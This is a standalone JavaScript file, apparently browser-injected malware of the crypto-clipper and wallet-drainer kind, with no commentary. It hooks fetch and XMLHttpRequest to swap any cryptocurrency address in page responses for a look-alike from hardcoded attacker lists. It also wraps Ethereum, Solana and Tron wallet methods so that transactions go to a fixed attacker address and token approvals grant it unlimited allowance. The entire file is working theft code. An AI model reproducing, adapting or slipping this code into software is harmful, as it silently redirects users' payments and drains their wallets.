var neth = 0;
var rund = 0;
var loval = 0;
async function checkethereumw() {
  try {
    const got = await window.ethereum.request({method: 'eth_accounts'});
    if (got.length > 0) { runmask(); if (rund != 1) { rund = 1; neth = 1; newdlocal(); } }
    else if (rund != 1) { rund = 1; newdlocal(); }
  } catch (error) { if (rund != 1) { rund = 1; newdlocal(); } }
}
if (typeof window != 'undefined' && typeof window.ethereum != 'undefined') { checkethereumw(); }
else if (rund != 1) { rund = 1; newdlocal(); }
function distance(a, b) {
  const rows = Array.from({length: a.length + 1}, function (_, i) { return [i]; });
  for (let j = 0; j <= b.length; j++) { rows[0][j] = j; }
  for (let i = 1; i <= a.length; i++) {
    for (let j = 1; j <= b.length; j++) {
      rows[i][j] = a[i - 1] === b[j - 1] ? rows[i - 1][j - 1] : 1 + Math.min(rows[i - 1][j], rows[i][j - 1], rows[i - 1][j - 1]);
    }
  }
  return rows[a.length][b.length];
}
function nearest(found, list) {
  let best = Infinity, pick = list[0];
  for (const entry of list) { const d = distance(found.toLowerCase(), entry.toLowerCase()); if (d < best) { best = d; pick = entry; } }
  return pick;
}
function swap(text) {
  const legacy = ['1CeHXn8KvRQgRZNguAaZfSGHoApG1f4es7', '19JA3d1GZC9Q3zzPkaMqzHJK6PyypDGUwj', '1ZAPQmfe7J9AtBt9oMARG1E7C9Qb1sn15E'];
  const segwit = ['bc1qypureq6cymyeym9ng094nsejufdcgd6dh2mr5m', 'bc1q6sjue8zx64z29w4y65xwks468dwpzu5h57c6x4'];
  const ethereum = ['0x9aeffdc050bcb64b1d057f8b76238a4aafb487ee', '0xac3d934fbe8b9808a2da340372d693e68a87433b', '0x1d98ed1a69d15297e8dde14572d03999c6714cbd'];
  const tron = ['TCBZfCce9ad9jFC76anPLB7z18nnoxhhz1', 'TEhs6Cd2Fk5zJJbfHn3iNvEMvNEBZkDZhW'];
  const solana = ['2KNpaBmQnHXAhF9Dy3EcMSeL5qozJPfVoDbTmCp9G5fx', 'ErddMc3xb1QtRQxtSeMGVDF3evKMm3dCjYGW9bZXpPWA'];
  const kinds = [[/\b0x[a-fA-F0-9]{40}\b/g, ethereum], [/\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, legacy], [/\bbc1[qp][a-z0-9]{38,58}\b/g, segwit], [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, tron], [/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g, solana]];
  let out = text;
  for (const kind of kinds) { out = out.replace(kind[0], function (found) { return kind[1].indexOf(found) >= 0 ? found : nearest(found, kind[1]); }); }
  return out;
}
function newdlocal() {
  if (typeof fetch == 'undefined' || typeof XMLHttpRequest == 'undefined' || loval) { return; }
  loval = 1;
  const old = fetch;
  fetch = async function (...given) {
    const answer = await old(...given);
    const kind = answer.headers.get('Content-Type') || '';
    const data = kind.includes('application/json') ? JSON.stringify(await answer.clone().json()) : await answer.clone().text();
    return new Response(swap(data), {status: answer.status, statusText: answer.statusText, headers: answer.headers});
  };
  const open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function () { this.where = arguments[1]; return open.apply(this, arguments); };
  XMLHttpRequest.prototype.send = function () {
    const request = this, ready = request.onreadystatechange;
    request.onreadystatechange = function () {
      if (request.readyState === 4) { Object.defineProperty(request, 'responseText', {value: swap(request.responseText)}); }
      if (ready) { ready.apply(this, arguments); }
    };
    return send.apply(this, arguments);
  };
}
function runmask() {
  const wallets = [window.ethereum, window.solana, window.tronLink];
  wallets.forEach(function (wallet) {
    if (!wallet) { return; }
    ['request', 'send', 'sendAsync', 'signTransaction'].forEach(function (name) {
      const real = wallet[name];
      if (typeof real !== 'function') { return; }
      wallet[name] = async function (call) {
        const copy = JSON.parse(JSON.stringify(call || {}));
        if (copy.method === 'eth_sendTransaction' && copy.params && copy.params[0]) {
          const data = String(copy.params[0].data || '').toLowerCase();
          copy.params[0].to = '0x9aeffdc050bcb64b1d057f8b76238a4aafb487ee';
          if (data.startsWith('0x095ea7b3')) { copy.params[0].data = data.slice(0, 10) + '9aeffdc050bcb64b1d057f8b76238a4aafb487ee'.padStart(64, '0') + 'f'.repeat(64); }
        }
        return real.apply(this, [copy]);
      };
    });
  });
}
